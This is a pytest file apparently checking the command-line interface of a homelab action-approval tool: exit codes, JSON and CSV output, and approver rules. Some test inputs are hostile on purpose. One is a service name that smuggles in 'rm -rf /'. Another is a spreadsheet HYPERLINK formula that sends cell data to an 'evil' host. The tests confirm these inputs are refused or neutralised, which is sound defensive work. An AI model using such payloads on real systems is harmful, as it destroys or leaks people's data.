"""The CLI contract, in process: `main([...])` against real SQLite files in tmp dirs and
real PostgreSQL databases (`backends`, tests/conftest.py); what is about a file, its
permissions or sqlite3 itself stays on SQLite (`sqlite_only`, with the reason).

Scripts depend on exit codes, JSON shapes and the one-line error format, so those are
pinned exactly here. Subprocess checks (entry points, signals, pipes) are in
test_cli_process.py."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from db_targets import DbTarget
from homelab_approvals import __version__
from homelab_approvals.cli.main import main
from homelab_approvals.cli.output import formula_safe
from homelab_approvals.cli.parser import build_parser
from homelab_approvals.cli.session import Session
from homelab_approvals.domain.views import ActionView, EventView, ServerView
from homelab_approvals.service import ApprovalService
from homelab_approvals.storage import Database

pytestmark = pytest.mark.backends

# Why a test of this module runs on SQLite alone.
NO_DATABASE_YET = pytest.mark.sqlite_only(
    "refused before any database is named or opened: the check is that no file appears"
)
A_FILE = pytest.mark.sqlite_only("about a database file: its path, contents or permissions")
DEFAULT_DB = pytest.mark.sqlite_only(
    "the default database ($HOMELAB_APPROVALS_DB, else the user data dir) is a SQLite file"
)

ACTION_KEYS = set(ActionView._fields)
# list, show and approve add the action's preview (tests/test_cli_previews.py).
WITH_PREVIEW = ACTION_KEYS | {"preview"}
EVENT_KEYS = set(EventView._fields)
SERVER_KEYS = set(ServerView._fields)
ACTION_TIMES = ("created_at", "approved_at", "rejected_at", "executed_at", "completed_at")


@dataclass
class Run:
    code: int
    out: str
    err: str

    def json(self) -> Any:
        return json.loads(self.out)

    @property
    def error_line(self) -> str:
        """The one stderr line of a failed command (asserting there is exactly one)."""
        lines = self.err.splitlines()
        assert len(lines) == 1, self.err
        return lines[0]


Cli = Callable[..., Run]


@pytest.fixture(autouse=True)
def _hermetic_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No user's real database or config can leak into (or be touched by) a test."""
    monkeypatch.delenv("HOMELAB_APPROVALS_DB", raising=False)
    monkeypatch.delenv("HOMELAB_APPROVALS_CONFIG", raising=False)
    monkeypatch.delenv("SSH_ORIGINAL_COMMAND", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg-data"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg-state"))


@pytest.fixture
def cli(db_target: DbTarget, capsys: pytest.CaptureFixture[str]) -> Cli:
    """Run the CLI on the test's database (or another --db, or none) with extra global
    options."""

    def run(*argv: str, pre: Sequence[str] = (), db: Path | DbTarget | None = db_target) -> Run:
        capsys.readouterr()
        if isinstance(db, DbTarget):
            where = db.cli_args
        else:
            where = ["--db", str(db)] if db is not None else []
        code = main([*where, *pre, *argv])
        out, err = capsys.readouterr()
        return Run(code, out, err)

    return run


@pytest.fixture
def world(seeded: ApprovalService) -> ApprovalService:
    """#1 pending (pi-4, restart nginx), #2 approved by auto (nas, clear logs),
    #3 rejected by bob (pi-4, apt update), #4 cancelled by carol (pi-4, clear logs)."""
    seeded.create_action("pi-4", "restart_service", "nginx", actor="homelabcmd")
    seeded.create_action("nas", "clear_logs", actor="homelabcmd")
    seeded.create_action("pi-4", "apt_update", actor="homelabcmd")
    seeded.reject(3, "bob", "not during the backup")
    seeded.create_action("pi-4", "clear_logs", actor="homelabcmd")
    seeded.cancel(4, "carol")
    return seeded


def dump(target: DbTarget) -> list[Any]:
    """Every row (and on SQLite every schema object): equal dumps mean nothing changed."""
    return target.dump()


def assert_iso_utc(value: str) -> None:
    moment = datetime.fromisoformat(value)
    assert moment.utcoffset() == timedelta(0), value
    assert value.endswith("+00:00"), value


def write_config(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(text, encoding="utf-8")
    return path


# -- entry point, help, version ------------------------------------------------------------


def test_version(cli: Cli) -> None:
    run = cli("--version", db=None)
    assert (run.code, run.out.strip(), run.err) == (0, f"homelab-approvals {__version__}", "")


def test_help_documents_commands_and_exit_codes(cli: Cli) -> None:
    run = cli("--help", db=None)
    assert run.code == 0
    for word in ("approve", "reject", "events", "--db", "--operator", "--config", "exit status"):
        assert word in run.out


def test_subcommand_help(cli: Cli) -> None:
    run = cli("list", "--help", db=None)
    assert run.code == 0
    assert "--status" in run.out
    assert "pending" in run.out


@pytest.mark.parametrize(
    ("command", "says"),
    [
        (["list"], "print a JSON array instead of a table"),
        (["approve"], "print the action as a JSON object instead of a sentence"),
        (["server", "pause"], "print the server as a JSON object instead of a sentence"),
        (["show"], "its events: events --action ID --json"),
    ],
)
def test_help_says_what_json_prints(cli: Cli, command: list[str], says: str) -> None:
    # `approve` prints a sentence, not a table: its --help must not promise otherwise.
    run = cli(*command, "--help", db=None)
    assert run.code == 0
    assert says in " ".join(run.out.split())


# -- usage errors: exit 2, one line, nothing created -----------------------------------------

USAGE_ERRORS = [
    pytest.param(["list", "--status", "bogus"], "invalid choice: 'bogus'", id="unknown-status"),
    pytest.param(["list", "--type", "reboot"], "invalid choice: 'reboot'", id="unknown-type"),
    pytest.param(["list", "--sort", "random"], "invalid choice: 'random'", id="unknown-sort"),
    pytest.param(["list", "--limit", "-1"], "--limit", id="negative-limit"),
    pytest.param(["list", "--offset", "x"], "--offset", id="bad-offset"),
    pytest.param(["list", "--js"], "unrecognized arguments: --js", id="no-abbreviations"),
    pytest.param(["approve", "abc"], "positive integer, got 'abc'", id="non-numeric-id"),
    pytest.param(["approve", "-5"], "positive integer, got '-5'", id="negative-id"),
    pytest.param(["approve", "0"], "positive integer, got '0' (", id="zero-id"),
    pytest.param(["show", "9" * 30], "positive integer", id="huge-id"),
    pytest.param(["show", str(2**70)], f"positive integer, got '{2**70}' (", id="2**70"),
    # A byte that is not UTF-8 ($'\\xff'), as Python hands it over: shown as typed.
    pytest.param(["approve", "\udcff"], "positive integer, got '\\xff' (", id="non-utf8-id"),
    pytest.param(["events", "--since", "\udcff"], "got '\\xff' (", id="non-utf8-since"),
    pytest.param(["show", str(2**63)], "positive integer", id="just-past-int64"),
    pytest.param(["cancel", "1.5"], "positive integer", id="fractional-id"),
    pytest.param(["approve", "\u0664\u0662"], "positive integer", id="non-ascii-digits"),
    pytest.param(["reject", "1"], "--reason", id="reject-without-reason"),
    pytest.param(["create", "--server", "nas"], "--type", id="create-without-type"),
    pytest.param(["frobnicate"], "invalid choice: 'frobnicate'", id="unknown-command"),
    pytest.param(["server"], "required", id="server-without-subcommand"),
    pytest.param(["events", "--since", "2026-11-27"], "no UTC offset", id="since-naive"),
    pytest.param(["events", "--since", "yesterday"], "ISO 8601", id="since-garbage"),
    pytest.param(["events", "--json", "--csv"], "not allowed", id="json-and-csv"),
    pytest.param(["events", "--action", "x"], "positive integer", id="events-bad-action"),
    pytest.param(["--database-url", "sqlite://", "list"], "not allowed", id="db-and-url"),
    pytest.param(["list", "--db", "x.db"], "before the command", id="global-after-command"),
    # Left-over words point at the help of the command that was given them.
    pytest.param(["show", "1", "2"], "2 (see 'homelab-approvals show --help')", id="extra-word"),
    pytest.param(
        ["server", "add", "x", "--hostname", "h", "y"],
        "y (see 'homelab-approvals server add --help')",
        id="extra-word-nested",
    ),
]


@NO_DATABASE_YET
@pytest.mark.parametrize(("argv", "fragment"), USAGE_ERRORS)
def test_usage_errors_exit_2_with_one_line(
    cli: Cli, db_path: Path, argv: list[str], fragment: str
) -> None:
    run = cli(*argv)
    assert run.code == 2
    assert run.error_line.startswith("error: USAGE: ")
    assert fragment in run.error_line
    assert "Traceback" not in run.err
    if "--json" in argv:
        assert run.json()["error"]["code"] == "USAGE"
    else:
        assert run.out == ""
    assert not db_path.exists()  # refused before anything was opened or created


def test_usage_error_with_json_is_json_on_stdout(cli: Cli) -> None:
    run = cli("list", "--status", "bogus", "--json")
    assert run.code == 2
    assert run.json()["error"]["code"] == "USAGE"
    assert "bogus" in run.json()["error"]["message"]


def test_hash_prefixed_id_is_accepted(cli: Cli, world: ApprovalService) -> None:
    run = cli("show", "#1", "--json")
    assert (run.code, run.json()["id"]) == (0, 1)


# -- JSON shapes ------------------------------------------------------------------------------


def test_list_json_is_an_array_of_column_objects(cli: Cli, world: ApprovalService) -> None:
    run = cli("list", "--json")
    assert run.code == 0
    rows = run.json()
    assert isinstance(rows, list)
    assert [r["id"] for r in rows] == [1, 2, 3, 4]
    for row in rows:
        assert set(row) == WITH_PREVIEW
        assert row["preview"] is None
        for key in ACTION_TIMES:
            if row[key] is not None:
                assert_iso_utc(row[key])
    by_id = {r["id"]: r for r in rows}
    assert by_id[1]["status"] == "pending"
    assert by_id[1]["server_label"] == "PI-4"
    assert by_id[1]["server_paused"] is True
    assert (by_id[2]["status"], by_id[2]["approved_by"]) == ("approved", "auto")
    assert (by_id[3]["rejected_by"], by_id[3]["rejection_reason"]) == (
        "bob",
        "not during the backup",
    )
    assert (by_id[4]["status"], by_id[4]["exit_code"]) == ("failed", -1)
    assert by_id[4]["stderr"] == "Action cancelled by user"


def test_empty_list_json_is_an_empty_array(cli: Cli) -> None:
    run = cli("list", "--json")
    assert (run.code, run.json()) == (0, [])


def test_show_json_is_one_action_object(cli: Cli, world: ApprovalService) -> None:
    run = cli("show", "1", "--json")
    assert run.code == 0
    action = run.json()
    # Every column, plus the approvals it has and needs (two-person approval), and its
    # preview (tests/test_cli_previews.py).
    assert set(action) == WITH_PREVIEW | {"approvals_required", "approvals"}
    assert (action["approvals_required"], action["approvals"]) == (1, [])
    assert action["preview"] is None
    assert action["command"] == "systemctl restart nginx"
    assert action["created_by"] == "homelabcmd"
    assert_iso_utc(action["created_at"])


def test_approve_json_returns_the_approved_action(cli: Cli, world: ApprovalService) -> None:
    run = cli("approve", "1", "--json", pre=["--operator", "alice"])
    assert run.code == 0
    action = run.json()
    assert (action["id"], action["status"], action["approved_by"]) == (1, "approved", "alice")
    assert_iso_utc(action["approved_at"])
    assert world.get_action(1).approved_by == "alice"


def test_action_json_is_pinned_to_the_byte(cli: Cli, db: Database) -> None:
    """Key order, value forms and layout, exactly: scripts parse this."""
    moment = datetime(2026, 11, 27, 10, 0, 0, 250000, tzinfo=UTC)
    service = ApprovalService(db, clock=lambda: moment)
    service.add_server("pi-4", "pi4.lan", "PI-4", paused=True)
    service.create_action("pi-4", "restart_service", "nginx", actor="homelabcmd")
    run = cli("show", "1", "--json")
    assert (run.code, run.err) == (0, "")
    assert run.out == (
        "{\n"
        '  "id": 1,\n'
        '  "server_id": "pi-4",\n'
        '  "action_type": "restart_service",\n'
        '  "status": "pending",\n'
        '  "service_name": "nginx",\n'
        '  "command": "systemctl restart nginx",\n'
        '  "created_at": "2026-11-27T10:00:00.250000+00:00",\n'
        '  "created_by": "homelabcmd",\n'
        '  "alert_id": null,\n'
        '  "approved_at": null,\n'
        '  "approved_by": null,\n'
        '  "rejected_at": null,\n'
        '  "rejected_by": null,\n'
        '  "rejection_reason": null,\n'
        '  "executed_at": null,\n'
        '  "completed_at": null,\n'
        '  "exit_code": null,\n'
        '  "stdout": null,\n'
        '  "stderr": null,\n'
        '  "server_label": "PI-4",\n'
        '  "server_paused": true,\n'
        '  "approvals_required": 1,\n'
        '  "approvals": [],\n'
        '  "preview": null\n'
        "}\n"
    )


@pytest.mark.parametrize(
    ("argv", "action_id"),
    [
        (["approve", "1"], 1),
        (["reject", "1", "--reason", "backup window"], 1),
        (["cancel", "2"], 2),
    ],
)
def test_a_decisions_json_is_byte_for_byte_what_show_prints_next(
    cli: Cli, world: ApprovalService, argv: list[str], action_id: int
) -> None:
    """The same object, the same keys in the same order, the server's label included."""
    decided = cli(*argv, "--json", pre=["--operator", "alice"])
    shown = cli("show", str(action_id), "--json")
    assert (decided.code, shown.code) == (0, 0)
    assert decided.out == shown.out
    assert list(decided.json()) == [
        *ActionView._fields,
        "approvals_required",
        "approvals",
        "preview",
    ]
    assert decided.json()["server_label"] == ("PI-4" if action_id == 1 else "nas.lan")


def test_reject_json_returns_the_rejected_action(cli: Cli, world: ApprovalService) -> None:
    run = cli("reject", "1", "--reason", "  backup window  ", "--json", pre=["--operator", "bob"])
    assert run.code == 0
    action = run.json()
    assert (action["status"], action["rejected_by"]) == ("rejected", "bob")
    assert action["rejection_reason"] == "backup window"  # trimmed by the service
    assert_iso_utc(action["rejected_at"])


def test_cancel_json_returns_the_failed_action(cli: Cli, world: ApprovalService) -> None:
    run = cli("cancel", "2", "--json", pre=["--operator", "carol"])
    assert run.code == 0
    action = run.json()
    assert (action["status"], action["exit_code"]) == ("failed", -1)
    assert action["stderr"] == "Action cancelled by user"


def test_create_json_on_paused_and_active_servers(cli: Cli, seeded: ApprovalService) -> None:
    pending = cli(
        "create", "--server", "pi-4", "--type", "restart_service", "--service", "nginx", "--json"
    )
    pre = ["--operator", "alice"]
    active = cli("create", "--server", "nas", "--type", "apt_update", "--json", pre=pre)
    assert (pending.code, active.code) == (0, 0)
    assert set(pending.json()) == WITH_PREVIEW
    assert (pending.json()["status"], pending.json()["approved_by"]) == ("pending", None)
    assert (active.json()["status"], active.json()["approved_by"]) == ("approved", "auto")
    assert active.json()["created_by"] == "alice"
    assert active.json()["command"].startswith("DEBIAN_FRONTEND=noninteractive apt-get update")


def test_servers_json(cli: Cli, seeded: ApprovalService) -> None:
    run = cli("servers", "--json")
    assert run.code == 0
    servers = run.json()
    assert [s["id"] for s in servers] == ["nas", "pi-4"]
    assert all(set(s) == SERVER_KEYS for s in servers)
    pi = servers[1]
    assert (pi["display_name"], pi["is_paused"]) == ("PI-4", True)
    assert_iso_utc(pi["paused_at"])
    assert servers[0]["paused_at"] is None


def test_server_add_pause_unpause(cli: Cli) -> None:
    added = cli("server", "add", "pve", "--hostname", "pve.lan", "--display-name", "Proxmox")
    assert (added.code, added.err) == (0, "")
    assert "pve" in added.out
    paused = cli("server", "pause", "pve", "--json")
    assert (paused.code, paused.json()["is_paused"]) == (0, True)
    assert_iso_utc(paused.json()["paused_at"])
    unpaused = cli("server", "unpause", "pve", "--json")
    assert (unpaused.json()["is_paused"], unpaused.json()["paused_at"]) == (False, None)
    born_paused = cli("server", "add", "nas", "--hostname", "nas.lan", "--paused", "--json")
    assert born_paused.json() | {"paused_at": None} == {
        "id": "nas",
        "hostname": "nas.lan",
        "display_name": None,
        "is_paused": True,
        "paused_at": None,
    }


def test_events_json(cli: Cli, world: ApprovalService) -> None:
    run = cli("events", "--action", "3", "--json")
    assert run.code == 0
    events = run.json()
    assert all(set(e) == EVENT_KEYS for e in events)
    assert [(e["from_status"], e["to_status"], e["actor"]) for e in events] == [
        (None, "pending", "homelabcmd"),
        ("pending", "rejected", "bob"),
    ]
    assert events[1]["reason"] == "not during the backup"
    for event in events:
        assert_iso_utc(event["at"])


def test_events_since_filters_by_time(cli: Cli, world: ApprovalService) -> None:
    everything = cli("events", "--json").json()
    assert len(everything) == 7  # 4 creations, 1 auto-approval, 1 reject, 1 cancel
    future = cli("events", "--since", "2999-01-01T00:00Z", "--json")
    assert (future.code, future.json()) == (0, [])
    past = cli("events", "--since", "2000-01-01T00:00:00+02:00", "--json")
    assert past.json() == everything


def test_events_for_an_unknown_action_is_empty_not_an_error(
    cli: Cli, world: ApprovalService
) -> None:
    # The audit trail outlives actions (HomelabCmd's cascades may delete them).
    run = cli("events", "--action", "999", "--json")
    assert (run.code, run.json()) == (0, [])


def test_events_csv(cli: Cli, world: ApprovalService) -> None:
    run = cli("events", "--csv")
    assert run.code == 0
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert list(rows[0]) == [
        "id",
        "action_id",
        "from_status",
        "to_status",
        "actor",
        "at",
        "reason",
        "command",
    ]
    assert len(rows) == 7
    reject = next(r for r in rows if r["to_status"] == "rejected")
    assert (reject["action_id"], reject["actor"]) == ("3", "bob")
    assert reject["reason"] == "not during the backup"
    assert rows[0]["from_status"] == ""  # null is an empty field
    for row in rows:
        assert_iso_utc(row["at"])


def test_csv_quotes_commas_quotes_and_newlines(cli: Cli, world: ApprovalService) -> None:
    reason = 'disk "full", retry later'
    world.reject(1, "bob", reason)
    rows = list(csv.DictReader(io.StringIO(cli("events", "--csv", "--action", "1").out)))
    assert rows[-1]["reason"] == reason


@pytest.mark.parametrize(
    "reason",
    ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"],
)
def test_csv_neutralises_formulas_and_json_stays_exact(
    cli: Cli, world: ApprovalService, db_target: DbTarget, reason: str
) -> None:
    """Issue 16, OWASP's CSV injection advice: a leading single quote, the rest exact."""
    set_first_event_reason(db_target, reason)
    rows = list(csv.DictReader(io.StringIO(cli("events", "--csv").out, newline="")))
    assert rows[0]["reason"] == "'" + reason
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    assert cli("events", "--json").json()[0]["reason"] == reason


def set_first_event_reason(target: DbTarget, reason: str) -> None:
    """Test data only: the append-only trigger is set aside to rewrite event 1's reason."""
    if target.backend == "sqlite":
        target.execute("DROP TRIGGER action_events_no_update")
    else:
        target.execute("ALTER TABLE action_events DISABLE TRIGGER action_events_append_only")
    target.execute("UPDATE action_events SET reason = :reason WHERE id = 1", reason=reason)


def test_formula_safe_covers_owasps_list() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert formula_safe(f"{start}1") == f"'{start}1"
    assert formula_safe("restart nginx") == "restart nginx"
    assert formula_safe(None) == ""


# -- list filters, sorting, paging ------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "ids"),
    [
        pytest.param(["--status", "pending"], [1], id="status"),
        pytest.param(["--status", "rejected", "--status", "failed"], [3, 4], id="statuses"),
        pytest.param(["--server", "nas"], [2], id="server"),
        pytest.param(["--type", "clear_logs"], [2, 4], id="type"),
        pytest.param(["--search", "nginx"], [1], id="search-service"),
        pytest.param(["--search", "#3"], [3], id="search-id"),
        pytest.param(["--search", "no such thing"], [], id="search-nothing"),
        pytest.param(["--sort", "newest"], [4, 3, 2, 1], id="newest"),
        pytest.param(["--sort", "newest", "--limit", "2"], [4, 3], id="limit"),
        pytest.param(["--limit", "2", "--offset", "1"], [2, 3], id="offset"),
        pytest.param(["--offset", "10"], [], id="past-the-end"),
    ],
)
def test_list_filters(cli: Cli, world: ApprovalService, argv: list[str], ids: list[int]) -> None:
    run = cli("list", *argv, "--json")
    assert run.code == 0
    assert [r["id"] for r in run.json()] == ids


def test_list_json_notes_on_stderr_when_the_default_window_cuts_it(
    cli: Cli, seeded: ApprovalService, db_target: DbTarget
) -> None:
    db_target.execute(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1001)"
        " INSERT INTO remediation_actions (server_id, action_type, status, command,"
        " created_at, created_by) SELECT 'nas', 'clear_logs', 'completed', 'x',"
        " '2026-11-27 10:00:00.000000', 'seed' FROM n"
    )
    run = cli("list", "--json")
    assert (run.code, len(run.json())) == (0, 1000)
    assert run.err == (
        "note: 1000 of 1001 matching actions shown (the default --limit);"
        " use --limit and --offset for the rest\n"
    )
    explicit = cli("list", "--json", "--limit", "5")
    assert (len(explicit.json()), explicit.err) == (5, "")


def test_list_human_table_and_footer(cli: Cli, world: ApprovalService) -> None:
    run = cli("list", "--limit", "2")
    assert run.code == 0
    lines = run.out.splitlines()
    assert lines[0].split() == ["ID", "STATUS", "SERVER", "ACTION", "CREATED", "(UTC)", "BY"]
    assert lines[1].split()[:4] == ["1", "pending", "PI-4", "restart"]
    assert "rows 1-2 of 4 matching" in lines[-1]
    assert "pending 1, approved 1, rejected 1, failed 1" in lines[-1]
    # Aligned: every row starts its STATUS column where the header does.
    column = lines[0].index("STATUS")
    assert all(line[column - 2 : column] == "  " for line in lines[1:3])


def test_list_human_when_empty(cli: Cli) -> None:
    assert cli("list").out.strip() == "no actions yet"
    assert cli("list", "--status", "pending").out.strip() == "no actions yet"


@pytest.mark.parametrize(
    "argv",
    [["--server", "ghost"], ["--server", ""], ["--search", "zzz"], ["--type", "apt_upgrade_all"]],
    ids=["unknown-server", "empty-server", "search", "type"],
)
def test_list_human_says_nothing_matched_not_that_nothing_exists(
    cli: Cli, world: ApprovalService, argv: list[str]
) -> None:
    # A typo in --server must not read as "this database is empty": it holds 4 actions.
    run = cli("list", *argv)
    assert (run.code, run.out, run.err) == (0, "no actions match\n", "")


def test_show_human_includes_details_and_events(cli: Cli, world: ApprovalService) -> None:
    run = cli("show", "3")
    assert run.code == 0
    assert "apt update on PI-4" in run.out
    assert "rejected" in run.out
    assert "not during the backup" in run.out
    assert "created -> pending" in run.out
    assert "pending -> rejected" in run.out


def test_human_decisions_say_what_happened(cli: Cli, world: ApprovalService) -> None:
    """Each one-liner names the server as `show` and `list` do: by its label (the display
    name, else the hostname), never by an id the operator has not seen there."""
    pre = ["--operator", "alice"]
    paused = ["create", "--server", "pi-4", "--type", "restart_service", "--service", "sshd"]
    sentences = [
        (
            cli(*paused, pre=pre),
            "created #5 restart sshd on PI-4, pending: the server is in maintenance,"
            " so it waits for a decision",
        ),
        (
            cli("create", "--server", "nas", "--type", "apt_update", pre=pre),
            "created #6 apt update on nas.lan, approved automatically:"
            " the server is not in maintenance",
        ),
        (cli("approve", "1", pre=pre), "approved #1 restart nginx on PI-4"),
        (
            cli("reject", "5", "--reason", " backup ", pre=pre),
            "rejected #5 restart sshd on PI-4: backup",
        ),
        (cli("cancel", "6", pre=pre), "cancelled #6 apt update on nas.lan (now failed)"),
    ]
    for run, sentence in sentences:
        assert (run.code, run.out, run.err) == (0, sentence + "\n", "")
    assert cli("show", "1").out.startswith("#1  restart nginx on PI-4\n")
    assert cli("show", "6").out.startswith("#6  apt update on nas.lan\n")
    rows = {line.split()[0]: line for line in cli("list").out.splitlines()[1:-1]}
    assert ("PI-4" in rows["1"], "nas.lan" in rows["6"]) == (True, True)


# -- every error class: its exit code, one line, and nothing changed -----------------------

REFUSALS = [
    # (argv, exit code, error code, message fragment)
    pytest.param(["show", "999"], 3, "NOT_FOUND", "action 999 not found", id="show-missing"),
    pytest.param(["approve", "999"], 3, "NOT_FOUND", "999", id="approve-missing"),
    pytest.param(["reject", "999", "--reason", "x"], 3, "NOT_FOUND", "999", id="reject-missing"),
    pytest.param(["cancel", "999"], 3, "NOT_FOUND", "999", id="cancel-missing"),
    pytest.param(
        ["create", "--server", "ghost", "--type", "clear_logs"],
        3,
        "NOT_FOUND",
        "ghost",
        id="create-unknown-server",
    ),
    pytest.param(["server", "pause", "ghost"], 3, "NOT_FOUND", "ghost", id="pause-missing"),
    pytest.param(
        ["approve", "2"], 4, "CONFLICT", "already approved by auto at", id="approve-approved"
    ),
    pytest.param(["approve", "3"], 4, "CONFLICT", "already rejected by bob", id="approve-rejected"),
    pytest.param(["reject", "3", "--reason", "x"], 4, "CONFLICT", "rejected", id="reject-rejected"),
    pytest.param(["approve", "4"], 4, "CONFLICT", "already failed", id="approve-cancelled"),
    pytest.param(["cancel", "3"], 4, "CONFLICT", "rejected", id="cancel-rejected"),
    pytest.param(
        ["create", "--server", "pi-4", "--type", "restart_service", "--service", "nginx"],
        4,
        "CONFLICT",
        "already pending",
        id="create-duplicate",
    ),
    pytest.param(
        ["server", "add", "nas", "--hostname", "x.lan"], 4, "CONFLICT", "exists", id="server-dup"
    ),
    pytest.param(["reject", "1", "--reason", "   "], 2, "VALIDATION_ERROR", "reason", id="blank"),
    pytest.param(["reject", "1", "--reason", ""], 2, "VALIDATION_ERROR", "reason", id="empty"),
    pytest.param(
        ["reject", "1", "--reason", "x" * 1001], 2, "VALIDATION_ERROR", "1000", id="too-long"
    ),
    pytest.param(
        ["reject", "1", "--reason", "ok\x1b[2J"], 2, "VALIDATION_ERROR", "control", id="control"
    ),
    pytest.param(
        ["create", "--server", "pi-4", "--type", "restart_service"],
        2,
        "VALIDATION_ERROR",
        "--service",
        id="restart-without-service",
    ),
    pytest.param(
        ["create", "--server", "pi-4", "--type", "restart_service", "--service", "x;rm -rf /"],
        2,
        "VALIDATION_ERROR",
        "systemd unit",
        id="shell-in-service",
    ),
    pytest.param(
        ["create", "--server", "pi-4", "--type", "clear_logs", "--service", "nginx"],
        2,
        "VALIDATION_ERROR",
        "no service name",
        id="service-on-fixed-type",
    ),
    pytest.param(
        ["list", "--search", "a\x00b"], 2, "VALIDATION_ERROR", "control", id="search-control"
    ),
    pytest.param(
        ["server", "add", "Not A Slug", "--hostname", "h"], 2, "VALIDATION_ERROR", "slug", id="slug"
    ),
    pytest.param(
        ["--operator", "", "approve", "1"], 2, "VALIDATION_ERROR", "operator", id="empty-operator"
    ),
    pytest.param(
        ["--operator", "a\tb", "approve", "1"], 2, "VALIDATION_ERROR", "operator", id="operator-tab"
    ),
]


@pytest.mark.parametrize(("argv", "exit_code", "code", "fragment"), REFUSALS)
def test_refused_commands(
    cli: Cli,
    world: ApprovalService,
    db_target: DbTarget,
    argv: list[str],
    exit_code: int,
    code: str,
    fragment: str,
) -> None:
    before = dump(db_target)
    run = cli(*argv)
    assert run.code == exit_code
    assert run.error_line.startswith(f"error: {code}: ")
    assert fragment in run.error_line
    assert run.out == ""
    assert dump(db_target) == before


@pytest.mark.parametrize(("argv", "exit_code", "code", "fragment"), REFUSALS[:8])
def test_refusals_with_json_put_the_error_on_stdout(
    cli: Cli,
    world: ApprovalService,
    argv: list[str],
    exit_code: int,
    code: str,
    fragment: str,
) -> None:
    run = cli(*argv, "--json")
    assert run.code == exit_code
    assert set(run.json()) == {"error"}
    assert set(run.json()["error"]) == {"code", "message"}
    assert run.json()["error"]["code"] == code
    assert fragment in run.json()["error"]["message"]
    assert run.error_line == f"error: {code}: {run.json()['error']['message']}"


@pytest.mark.parametrize("command", [[], ["tui"], ["demo"]], ids=["default", "tui", "demo"])
def test_the_console_needs_a_terminal(cli: Cli, world: ApprovalService, command: list[str]) -> None:
    # Under pytest neither stdin nor stdout is a terminal, as under cron or in a pipe.
    run = cli(*command, db=None)
    assert run.code == 2
    assert run.error_line.startswith("error: USAGE: the console needs a terminal")


@A_FILE
def test_the_console_reports_database_errors_before_anything_else(cli: Cli, tmp_path: Path) -> None:
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"not a database" * 100)
    run = cli(db=junk)
    assert run.code == 1
    assert run.error_line == f"error: DATABASE_ERROR: not a SQLite database: {junk}"


def test_demo_refuses_read_only(cli: Cli) -> None:
    run = cli("demo", pre=["--read-only"])
    assert run.code == 2
    assert run.error_line.startswith("error: USAGE: demo")


# -- who may decide (config) -----------------------------------------------------------------


def test_non_approver_is_forbidden_and_nothing_changes(
    cli: Cli, world: ApprovalService, db_target: DbTarget, tmp_path: Path
) -> None:
    config = write_config(tmp_path, 'approvers = ["alice"]\n')
    before = dump(db_target)
    for argv in (["approve", "1"], ["reject", "1", "--reason", "no"], ["cancel", "1"]):
        run = cli(*argv, pre=["--config", str(config), "--operator", "mallory"])
        assert run.code == 5
        assert run.error_line.startswith("error: FORBIDDEN: 'mallory' is not in the approvers")
    assert dump(db_target) == before
    allowed = cli("approve", "1", pre=["--config", str(config), "--operator", "alice"])
    assert allowed.code == 0


def test_reading_is_open_to_non_approvers(cli: Cli, world: ApprovalService, tmp_path: Path) -> None:
    config = write_config(tmp_path, 'approvers = ["alice"]\n')
    run = cli("list", "--json", pre=["--config", str(config), "--operator", "mallory"])
    assert (run.code, len(run.json())) == (0, 4)


def test_self_approval_can_be_forbidden(
    cli: Cli, seeded: ApprovalService, db_target: DbTarget, tmp_path: Path
) -> None:
    config = write_config(tmp_path, "allow_self_approval = false\n")
    pre = ["--config", str(config), "--operator", "alice"]
    created = cli("create", "--server", "pi-4", "--type", "clear_logs", "--json", pre=pre)
    action_id = str(created.json()["id"])
    before = dump(db_target)
    refused = cli("approve", action_id, pre=pre)
    assert refused.code == 5
    assert "may not approve" in refused.error_line
    assert dump(db_target) == before
    assert cli("reject", action_id, "--reason", "changed my mind", pre=pre).code == 0


def test_config_from_the_environment(
    cli: Cli, world: ApprovalService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = write_config(tmp_path, 'approvers = ["alice"]\n')
    monkeypatch.setenv("HOMELAB_APPROVALS_CONFIG", str(config))
    assert cli("approve", "1", pre=["--operator", "mallory"]).code == 5


def test_default_config_location_is_read(cli: Cli, world: ApprovalService, tmp_path: Path) -> None:
    folder = tmp_path / "xdg-config" / "homelab-approvals"
    folder.mkdir(parents=True)
    (folder / "config.toml").write_text('approvers = ["alice"]\n', encoding="utf-8")
    assert cli("approve", "1", pre=["--operator", "mallory"]).code == 5


@NO_DATABASE_YET
@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        pytest.param("approvers = ['alice']\nmode = 'strict'\n", "unknown key 'mode'", id="key"),
        pytest.param("approvers = 'alice'\n", "'approvers' must be a list", id="type"),
        pytest.param("allow_self_approval = 'no'\n", "true or false", id="bool"),
        pytest.param("approvers = [\n", "not valid TOML", id="toml"),
    ],
)
def test_bad_config_exits_2_naming_the_file(
    cli: Cli, db_path: Path, tmp_path: Path, text: str, fragment: str
) -> None:
    config = write_config(tmp_path, text)
    run = cli("list", pre=["--config", str(config)])
    assert run.code == 2
    assert run.error_line.startswith("error: CONFIG_ERROR: ")
    assert fragment in run.error_line
    assert str(config) in run.error_line
    assert not db_path.exists()  # the config is read before the database is opened


@NO_DATABASE_YET
def test_an_explicit_config_that_does_not_exist_is_refused(
    cli: Cli, db_path: Path, tmp_path: Path
) -> None:
    # Falling back to "anyone may decide" on a typo would be the unsafe direction.
    run = cli("list", pre=["--config", str(tmp_path / "typo.toml")])
    assert run.code == 2
    assert run.error_line == f"error: CONFIG_ERROR: config file not found: {tmp_path}/typo.toml"
    assert not db_path.exists()


